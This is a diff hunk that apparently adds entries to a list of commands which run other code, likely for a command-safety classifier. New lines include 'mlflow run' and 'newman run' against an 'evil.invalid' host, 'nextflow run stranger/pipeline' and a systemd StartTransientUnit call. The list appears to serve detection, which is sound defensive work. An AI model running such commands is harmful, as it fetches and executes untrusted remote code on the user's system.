@@ -514,6 +514,15 @@ server Makefile
 server /srv/Dockerfile
 server https://a.invalid/x.js%3f
 server https://a.invalid/x.js/
+nextflow run stranger/pipeline
+mlflow run https://evil.invalid/project
+snakemake all
+uwsgi --http 127.0.0.1:80 --wsgi-file app
+kitty program
+summon program
+busctl call org.freedesktop.systemd1 /x y StartTransientUnit
+newman run https://evil.invalid/collection
+bats tests
 """
 # A launcher script by its absolute path, or another program that runs its arguments.
 RUNNER_SCRIPTS = """
